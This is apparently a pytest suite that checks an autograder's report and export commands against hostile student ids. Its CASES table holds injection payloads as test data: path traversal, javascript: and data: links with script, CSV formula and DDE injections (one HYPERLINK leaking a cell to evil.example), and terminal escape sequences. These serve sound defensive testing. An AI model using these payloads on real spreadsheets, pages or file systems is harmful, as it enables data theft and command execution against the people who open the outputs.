"""Outputs that attack the TA: a hostile student id in a real gradebook beside an honest one, through
`report` and every export format; nothing lands outside --out, no link leaves the report folder, no
CSV cell is a formula, the terminal shows the id as text, the index lists everyone, and the honest
student's outputs are those of a class without the attacker."""

from __future__ import annotations

import csv
import html
import json
import re
from dataclasses import dataclass
from pathlib import Path
from urllib.parse import unquote, urlsplit

import pytest

from autograder.cli import main
from autograder.gradebook import Gradebook
from tests.conftest import CLASS_ASSIGNMENT, question, record_grade

HONEST = "alice"
HONEST_ROW = [HONEST, "graded", "5", "5", "2", "3"]
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
# Exports written by every case; nbgrader (slow to create) has one test of its own below.
EXPORTS = (
    ("csv", "grades.csv"),
    ("canvas", "canvas.csv"),
    ("json", "grades.jsonl"),
    ("gradescope", "gradescope"),
)
LINK = re.compile(r"<a href=(['\"])(.*?)\1>(.*?)</a>")
HREF = re.compile(r"href=(['\"])(.*?)\1")

# What each id tries; "{victim}" stands for a folder outside --out that exists.
CASES = {
    "parent-traversal": "../../../x",
    "absolute-path": "{victim}/owned",
    "missing-folder": "nodir/x",
    "script-link": "javascript:alert(1)",
    "data-link": "data:text/html,<script>alert(1)</script>",
    "csv-formula": '=HYPERLINK("http://evil.example/?leak="&A1,"grades")',
    "csv-dde": "+cmd|' /C calc'!A0",
    "csv-minus": "-rf",
    "csv-at": "@SUM(1+1)",
    "csv-tab": "\tTAB",
    "dashboard-name": "index",
    "case-twin": "ALICE",
    "terminal-markup": "[link=http://e.x]x[/]",
    "terminal-escape": "evil\x1b]0;pwned\x07",
}


@dataclass
class Class:
    """One run of `report` and every export over a class, and the folders around it."""

    root: Path
    out: Path
    gradebook: Path
    students: tuple[str, ...]
    stdout: str

    @property
    def reports(self) -> Path:
        return self.out / "reports" / CLASS_ASSIGNMENT


def files_outside(root: Path, *inside: Path) -> dict[str, bytes]:
    return {
        str(p): p.read_bytes()
        for p in sorted(root.rglob("*"))
        if p.is_file() and not any(p.is_relative_to(folder) for folder in inside)
    }


def grade_class(root: Path, students: tuple[str, ...]) -> Path:
    db = root / "db" / "gradebook.db"
    db.parent.mkdir(parents=True, exist_ok=True)
    gradebook = Gradebook(str(db))
    for i, student in enumerate(students):
        if student == HONEST:
            questions = (
                question("square", 2, 2, "passed", "SQUARE: correct"),
                question("scale", 3, 3, "passed", "scale(): all 4 checks passed"),
            )
        else:
            questions = (
                question("square", 1, 2, "partial", '=HYPERLINK("http://evil.example","x")'),
                question("scale", 0, 3, "failed", "@SUM(1+1)\n<script>alert(1)</script>"),
            )
        record_grade(gradebook, student, "graded", questions, sha256=f"{i:064x}")
    gradebook.close()
    return db


def run_everything(root: Path, students: tuple[str, ...], capsys, monkeypatch) -> Class:
    db = grade_class(root, students)
    home = root / "home" / "ta"
    out = home / "out"
    home.mkdir(parents=True)
    monkeypatch.chdir(home)
    before = files_outside(root, out, db.parent)
    capsys.readouterr()
    common = ["--gradebook", str(db)]
    assert main(["report", CLASS_ASSIGNMENT, *common, "--out", str(out / "reports")]) == 0
    for fmt, target in EXPORTS:
        assert (
            main(["export", CLASS_ASSIGNMENT, "--format", fmt, *common, "--out", str(out / target)])
            == 0
        )
    stdout = capsys.readouterr().out
    assert files_outside(root, out, db.parent) == before, "a file was written outside --out"
    return Class(root=root, out=out, gradebook=db, students=students, stdout=stdout)


def rows_of(path: Path) -> list[list[str]]:
    with path.open(newline="", encoding="utf-8") as handle:
        return list(csv.reader(handle))


def neutralised(text: str) -> str:
    return "'" + text if text.startswith(FORMULA_START) else text


def check_links_stay_in_the_folder(folder: Path) -> dict[str, Path]:
    """Every href of every page is a relative link to a file in `folder`; the students' links by name."""
    for page in folder.glob("*.html"):
        for _, href in HREF.findall(page.read_text(encoding="utf-8")):
            url = html.unescape(href)
            parts = urlsplit(url)
            assert (parts.scheme, parts.netloc) == ("", ""), f"{page.name}: href {url!r}"
            assert "/" not in unquote(parts.path) and not url.startswith("."), url
            assert (folder / unquote(parts.path)).is_file(), url
    index = (folder / "index.html").read_text(encoding="utf-8")
    return {
        html.unescape(text): folder / unquote(html.unescape(href))
        for _, href, text in LINK.findall(index)
    }


def check_outputs(run: Class, hostile: str) -> None:
    # The index lists everyone, and each link opens that student's page.
    links = check_links_stay_in_the_folder(run.reports)
    assert sorted(links) == sorted(run.students)
    for student, page in links.items():
        assert f"<h1>{CLASS_ASSIGNMENT} — {html.escape(student)}</h1>" in page.read_text(
            encoding="utf-8"
        )
    pages = [p.name for p in run.reports.iterdir()]
    assert len({p.casefold() for p in pages}) == len(pages) == len(run.students) + 1
    # CSV: no cell a spreadsheet would run; the id is still there behind the quote.
    grades = rows_of(run.out / "grades.csv")
    canvas = rows_of(run.out / "canvas.csv")
    for row in grades[1:] + canvas[1:]:
        assert not any(cell.startswith(FORMULA_START) for cell in row), row
    assert neutralised(hostile) in {row[0] for row in grades[1:]}
    assert [neutralised(hostile)] * 2 in [row[2:4] for row in canvas[1:]]
    # JSON keeps the real id: it is data, not a path.
    lines = [json.loads(line) for line in (run.out / "grades.jsonl").read_text().splitlines()]
    assert sorted(line["student"] for line in lines) == sorted(run.students)
    gradescope = sorted((run.out / "gradescope").iterdir())
    assert len({p.name.casefold() for p in gradescope}) == len(gradescope) == len(run.students)
    # The terminal shows text, never an escape sequence.
    assert "\x1b" not in run.stdout and "\x07" not in run.stdout


def check_honest_outputs(run: Class, baseline: Class) -> None:
    page = (run.reports / f"{HONEST}.html").read_bytes()
    assert page == (baseline.reports / f"{HONEST}.html").read_bytes()
    assert HONEST_ROW in rows_of(run.out / "grades.csv")
    assert ["", "", HONEST, HONEST, "", "5"] in rows_of(run.out / "canvas.csv")
    results = (run.out / "gradescope" / f"{HONEST}.json").read_text()
    assert results == (baseline.out / "gradescope" / f"{HONEST}.json").read_text()


@pytest.fixture()
def baseline(tmp_path_factory, capsys, monkeypatch) -> Class:
    with monkeypatch.context() as patch:
        return run_everything(tmp_path_factory.mktemp("honest"), (HONEST,), capsys, patch)


@pytest.mark.parametrize("hostile", CASES.values(), ids=CASES.keys())
def test_a_hostile_id_attacks_nothing(tmp_path, baseline, capsys, monkeypatch, hostile):
    (tmp_path / "victim").mkdir()
    hostile = hostile.format(victim=tmp_path / "victim")
    run = run_everything(tmp_path, (HONEST, hostile), capsys, monkeypatch)
    check_outputs(run, hostile)
    check_honest_outputs(run, baseline)


def test_markup_in_an_id_is_shown_as_text(tmp_path, capsys, monkeypatch):
    run = run_everything(tmp_path, (HONEST, CASES["terminal-markup"]), capsys, monkeypatch)
    assert CASES["terminal-markup"] in run.stdout


@pytest.mark.parametrize("hostile", ("../../../x", "nodir/x", "index", "javascript:alert(1)"))
def test_one_hostile_students_page_is_written_inside_out_and_named(
    tmp_path, capsys, monkeypatch, hostile
):
    run = run_everything(tmp_path, (HONEST, hostile), capsys, monkeypatch)
    before = files_outside(tmp_path, run.out, run.gradebook.parent)
    (run.reports / "index.html").unlink()
    assert (
        main(
            [
                "report",
                CLASS_ASSIGNMENT,
                "--gradebook",
                str(run.gradebook),
                "--student",
                hostile,
                "--out",
                str(run.out / "reports"),
            ]
        )
        == 0
    )
    assert files_outside(tmp_path, run.out, run.gradebook.parent) == before
    [opened] = re.findall(r"open (\S+\.html)", capsys.readouterr().out)
    page = Path(opened).read_text(encoding="utf-8")
    assert f"<h1>{CLASS_ASSIGNMENT} — {html.escape(hostile)}</h1>" in page
    assert Path(opened).resolve().parent == run.reports.resolve()


def test_nbgrader_keeps_the_real_ids_and_writes_only_its_database(tmp_path, capsys, monkeypatch):
    nbgrader_api = pytest.importorskip("nbgrader.api")
    (tmp_path / "victim").mkdir()
    students = (HONEST, *(h.format(victim=tmp_path / "victim") for h in CASES.values()))
    db = grade_class(tmp_path, students)
    home = tmp_path / "home" / "ta"
    home.mkdir(parents=True)
    monkeypatch.chdir(home)
    before = files_outside(tmp_path, home / "out", db.parent)
    target = home / "out" / "nb.db"
    assert (
        main(
            [
                "export",
                CLASS_ASSIGNMENT,
                "--format",
                "nbgrader",
                "--gradebook",
                str(db),
                "--out",
                str(target),
            ]
        )
        == 0
    )
    assert files_outside(tmp_path, home / "out", db.parent) == before
    assert [p.name for p in (home / "out").iterdir()] == ["nb.db"]
    with nbgrader_api.Gradebook(f"sqlite:///{target}") as gb:
        assert sorted(s.id for s in gb.students) == sorted(students)
